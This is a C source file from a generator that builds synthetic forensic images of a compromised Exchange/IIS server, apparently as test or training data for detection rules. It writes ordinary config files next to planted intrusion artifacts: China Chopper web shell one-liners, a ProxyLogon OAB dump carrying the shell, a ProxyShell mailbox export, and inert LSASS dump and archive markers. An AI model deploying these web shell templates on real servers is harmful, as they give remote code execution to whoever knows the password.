/*
 * exgen: the web root and the inert marker files an intrusion left (web shells,
 * the LSASS dump, the 7-Zip archive, a mailbox export written as a page), with
 * the times they were written, and a site web.config with the ProxyNotShell URL
 * Rewrite mitigation where a fleet host applied it.
 */
#include "exgen.h"

#include <stdio.h>
#include <string.h>

static const char IISSTART[] =
    "<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" \"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd\">\n"
    "<html xmlns=\"http://www.w3.org/1999/xhtml\">\n<head>\n"
    "<meta http-equiv=\"Content-Type\" content=\"text/html; charset=iso-8859-1\" />\n"
    "<title>IIS Windows Server</title>\n<style type=\"text/css\">\n<!--\n"
    "body {\n\tcolor:#000000;\n\tbackground-color:#0072C6;\n\tmargin:0;\n}\n\n"
    "#container {\n\tmargin-left:auto;\n\tmargin-right:auto;\n\ttext-align:center;\n\t}\n\n"
    "a img {\n\tborder:none;\n}\n\n-->\n</style>\n</head>\n<body>\n<div id=\"container\">\n"
    "<a href=\"http://go.microsoft.com/fwlink/?linkid=66138&amp;clcid=0x409\"><img src=\"iisstart.png\" "
    "alt=\"IIS\" width=\"960\" height=\"600\" /></a>\n</div>\n</body>\n</html>";

static const char OWA_WEBCONFIG[] =
    "<?xml version=\"1.0\" encoding=\"utf-8\"?>\n<configuration>\n  <system.web>\n"
    "    <compilation defaultLanguage=\"c#\" debug=\"false\" targetFramework=\"4.5\" />\n"
    "    <httpRuntime maxRequestLength=\"35000\" requestValidationMode=\"2.0\" />\n"
    "    <customErrors mode=\"On\" defaultRedirect=\"auth/errorFE.aspx\" />\n"
    "    <authentication mode=\"Windows\" />\n  </system.web>\n  <system.webServer>\n"
    "    <modules>\n"
    "      <add name=\"FbaModule\" type=\"Microsoft.Exchange.HttpProxy.FbaModule, "
    "Microsoft.Exchange.FrontEndHttpProxy, Version=15.0.0.0, Culture=neutral, PublicKeyToken=31bf3856ad364e35\" />\n"
    "    </modules>\n"
    "    <handlers>\n"
    "      <add name=\"ProxyRequestHandler\" path=\"*\" verb=\"*\" "
    "type=\"Microsoft.Exchange.HttpProxy.ProxyRequestHandler, Microsoft.Exchange.FrontEndHttpProxy\" />\n"
    "    </handlers>\n  </system.webServer>\n</configuration>";

static const char LOGON_CSS[] =
    "/* Copyright (c) Microsoft Corporation.  All rights reserved. */\n"
    "body { margin: 0px; font-family: \"Segoe UI\", \"Segoe\", Tahoma, Helvetica, Arial, sans-serif; }\n"
    ".mouse .sidebar { position: absolute; top: 0px; bottom: 0px; left: 0px; width: 332px; background-color: #0072C6; }\n"
    ".mouse .logonDiv { position: absolute; top: 100px; left: 390px; width: 500px; }\n"
    ".signInInputLabel { color: #666666; font-size: 14px; }\n"
    ".signinbutton { background-color: #0072C6; color: #FFFFFF; cursor: pointer; }\n";

static const char CHOPPER_T[] = "<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"{P2}\"],\"unsafe\");%>";
static const char CHOPPER_SH_T[] = "<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"{SHPW}\"],\"unsafe\");%>";

static const char PNS_MITIGATION[] =
    "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<configuration>\n  <system.webServer>\n    <rewrite>\n"
    "      <rules>\n        <rule name=\"PowerShell - inbound\" stopProcessing=\"true\">\n"
    "          <match url=\".*\" />\n"
    "          <conditions logicalGrouping=\"MatchAny\" trackAllCaptures=\"false\">\n"
    "            <add input=\"{UrlDecode:{REQUEST_URI}}\" pattern=\"(?=.*autodiscover)(?=.*powershell)\" />\n"
    "          </conditions>\n          <action type=\"AbortRequest\" />\n        </rule>\n      </rules>\n"
    "    </rewrite>\n  </system.webServer>\n</configuration>";

static const char OAB_DUMP_T[] =
    "Name                            : OAB (Default Web Site)\n"
    "PollInterval                    : 480\n"
    "OfflineAddressBooks             : \n"
    "RequireSSL                      : False\n"
    "BasicAuthentication             : False\n"
    "WindowsAuthentication           : True\n"
    "OAuthAuthentication             : False\n"
    "MetabasePath                    : IIS://{NAME}.contoso.local/W3SVC/1/ROOT/OAB\n"
    "Path                            : " XROOT_WIN "FrontEnd\\HttpProxy\\OAB\n"
    "ExtendedProtectionTokenChecking : None\n"
    "ExtendedProtectionFlags         : \n"
    "ExtendedProtectionSPNList       : \n"
    "AdminDisplayVersion             : Version {ADV}\n"
    "Server                          : {NAME}\n"
    "InternalUrl                     : https://{FQDN}/OAB\n"
    "InternalAuthenticationMethods   : WindowsIntegrated\n"
    "ExternalUrl                     : http://f/<script language=\"JScript\" runat=\"server\">function Page_Load()"
    "{eval(Request[\"{P1}\"],\"unsafe\");}</script>\n"
    "ExternalAuthenticationMethods   : WindowsIntegrated\n"
    "AdminDisplayName                : \n"
    "ExchangeVersion                 : 0.10 (14.0.100.0)\n"
    "DistinguishedName               : CN=OAB (Default Web Site),CN=HTTP,CN=Protocols,CN={NAME},CN=Servers,"
    "CN=Exchange Administrative Group (FYDIBOHF23SPDLT),CN=Administrative Groups,CN=Contoso,"
    "CN=Microsoft Exchange,CN=Services,CN=Configuration,DC=contoso,DC=local\n"
    "Identity                        : {NAME}\\OAB (Default Web Site)\n"
    "Guid                            : " OABVD_GUID "\n"
    "ObjectCategory                  : contoso.local/Configuration/Schema/ms-Exch-OAB-Virtual-Directory\n"
    "ObjectClass                     : {top, msExchVirtualDirectory, msExchOABVirtualDirectory}\n"
    "WhenChanged                     : {WHEN}\n"
    "WhenCreated                     : 10/14/2019 3:22:10 PM\n"
    "WhenChangedUTC                  : {WHEN}\n"
    "WhenCreatedUTC                  : 10/14/2019 3:22:10 PM\n"
    "OrganizationId                  : \n"
    "Id                              : {NAME}\\OAB (Default Web Site)\n"
    "OriginatingServer               : DC01.contoso.local\n"
    "IsValid                         : True\n"
    "ObjectState                     : Changed\n";

/* Files the intrusion left, with the time each was written (the matching log lines are
 * in the timeline: the OAB reset at 06:59:20, the POST that wrote the China Chopper
 * page at 07:05:33, the MiniDump at 07:15:05, the 7-Zip run at 07:21:48). */
static void planted(Gen *g, int rec, int64_t t, const char *stage, const char *desc, const char *rule)
{
	stamp(g, rec, t);
	if (g->nfiles >= sizeof g->files / sizeof g->files[0])
		return;
	g->files[g->nfiles].rec = rec;
	g->files[g->nfiles].t = t;
	g->files[g->nfiles].stage = stage;
	g->files[g->nfiles].desc = desc;
	g->files[g->nfiles].rule = rule;
	g->nfiles++;
}

/* "3/3/2021 6:49:53 AM", as Get-OabVirtualDirectory prints a time. */
static void us_time(char *dst, size_t cap, int64_t t)
{
	int y;
	unsigned m, d;
	civil_from_days(t / MS_DAY, &y, &m, &d);
	unsigned s = (unsigned)(t % MS_DAY / 1000), h = s / 3600;
	snprintf(dst, cap, "%u/%u/%d %u:%02u:%02u %s", m, d, y, h % 12 ? h % 12 : 12, s / 60 % 60, s % 60,
	         h < 12 ? "AM" : "PM");
}

/* The ProxyLogon files, at the sample's times shifted to the host's. */
static void write_pl_files(Gen *g, int which)
{
	int64_t sh = g->plan.pl_shift;
	char path[512], text[4096];
	int rec;
	if (which == 0) {
		Str c = tmpl(g, text, sizeof text, CHOPPER_T);
		rec = write_whole(g, tmpl(g, path, sizeof path, "C/inetpub/wwwroot/aspnet_client/system_web/{S2}.aspx").s, true,
		                  c.s, c.n);
		planted(g, rec, ms_at(2021, 3, 3, 7, 5, 33, 0) + sh, "webshell-drop",
		        "China Chopper page written through the OAB shell", "exh_chopper_eval_request");
		us_time(g->plan.when, sizeof g->plan.when, ms_at(2021, 3, 3, 6, 49, 53, 0) + sh);
		tmpl(g, text, sizeof text, OAB_DUMP_T);
		rec = write_text(g, tmpl(g, path, sizeof path, XROOT "FrontEnd/HttpProxy/owa/auth/{S1}.aspx").s, text);
		planted(g, rec, ms_at(2021, 3, 3, 6, 59, 20, 0) + sh, "webshell-drop",
		        "CVE-2021-27065: OAB virtual directory dump with a China Chopper script in ExternalUrl",
		        "exh_oab_vdir_dump_script");
		return;
	}
	/* Inert markers: archive and dump headers followed by random bytes. */
	Rng r;
	rng_seed(&r, 0x7A7A7A);
	unsigned char b[512];
	static const unsigned char magic7z[] = {0x37, 0x7A, 0xBC, 0xAF, 0x27, 0x1C, 0x00, 0x04};
	memcpy(b, magic7z, sizeof magic7z);
	for (size_t i = sizeof magic7z; i < 96; i++)
		b[i] = (unsigned char)rnext(&r);
	rec = write_whole(g, "C/ProgramData/VSPerfMon/a.7z", true, b, 96);
	planted(g, rec, ms_at(2021, 3, 3, 7, 21, 50, 0) + sh, "collection", "7-Zip archive of the LSASS dump in VSPerfMon",
	        "file-vsperfmon");
	static const unsigned char mdmp[] = {'M', 'D', 'M', 'P', 0x93, 0xA7, 0x00, 0x00};
	memcpy(b, mdmp, sizeof mdmp);
	for (size_t i = sizeof mdmp; i < 384; i++)
		b[i] = (unsigned char)rnext(&r);
	/* a minidump's module list names the process image in UTF-16 */
	static const char image[] = "C:\\Windows\\System32\\lsass.exe";
	for (size_t i = 0; i < sizeof image - 1; i++) {
		b[96 + 2 * i] = (unsigned char)image[i];
		b[96 + 2 * i + 1] = 0;
	}
	rec = write_whole(g, "C/Windows/Temp/lsass.dmp", true, b, 384);
	planted(g, rec, ms_at(2021, 3, 3, 7, 15, 7, 0) + sh, "credential-access", "LSASS minidump made with comsvcs.dll MiniDump",
	        "exh_lsass_minidump");
}

/* The page a 2021-08 .. 2022-12 campaign wrote: a China Chopper line, or for
 * ProxyShell a mailbox export (PST header, the script inside the exported mail). */
static void write_campaign_shell(Gen *g)
{
	char path[512], url[256], text[512];
	shell_path(g, path, sizeof path, url, sizeof url);
	Str c = tmpl(g, text, sizeof text, CHOPPER_SH_T);
	int rec;
	if (g->plan.shell_pst) {
		/* "!BDN", a PST header's random-looking bytes, the script as the mail body left it */
		unsigned char b[1536];
		Rng r;
		rng_seed(&r, mix3(g->seed, 0xB0D1, 3));
		for (size_t i = 0; i < sizeof b; i++)
			b[i] = (unsigned char)rnext(&r);
		memcpy(b, "!BDN", 4);
		static const char js[] = "<script language=\"JScript\" runat=\"server\">function Page_Load(){eval(Request[\"";
		size_t at = 700, k = sizeof js - 1;
		memcpy(b + at, js, k);
		size_t pl = strlen(g->plan.shell_pw);
		memcpy(b + at + k, g->plan.shell_pw, pl);
		static const char tail[] = "\"],\"unsafe\");}</script>";
		memcpy(b + at + k + pl, tail, sizeof tail - 1);
		rec = write_whole(g, path, true, b, sizeof b);
	} else {
		rec = write_whole(g, path, true, c.s, c.n);
	}
	planted(g, rec, g->plan.shell_t, "webshell-drop", g->plan.shell_desc, g->plan.shell_rule);
}

void write_webroot(Gen *g)
{
	stamp(g, write_text(g, "C/inetpub/wwwroot/iisstart.htm", IISSTART), ms_at(2019, 10, 14, 14, 51, 2, 0));
	char rel[2048], full[4096];
	disk_rel(g, rel, sizeof rel, "C/inetpub/wwwroot/aspnet_client/system_web/4_0_30319");
	full_path(g, full, sizeof full, rel);
	mkdirs_for(g, full, true);
	if (g->plan.pl_files)
		write_pl_files(g, 0);
	/* the security update rewrote the vdir configuration; the stylesheet came with the CU */
	const Host *h = &g->h;
	stamp(g, write_text(g, XROOT "FrontEnd/HttpProxy/owa/web.config", OWA_WEBCONFIG),
	      h->patch_at >= 0 ? h->patch_at + 72000 : h->cu_time + 3 * MS_HOUR);
	char css[256];
	snprintf(css, sizeof css, XROOT "FrontEnd/HttpProxy/owa/auth/%u.%u.%u/themes/resources/logon.css", h->b[0].major,
	         h->b[0].minor, h->b[0].cu);
	stamp(g, write_text(g, css, LOGON_CSS), h->cu_time);
	if (g->plan.pl_files)
		write_pl_files(g, 1);
	if (g->plan.shell_t >= 0 && g->plan.shell[0])
		write_campaign_shell(g);
	if (g->plan.pns_mitigation)
		stamp(g, write_text(g, "C/inetpub/wwwroot/web.config", PNS_MITIGATION), g->plan.mitigated_at);
}
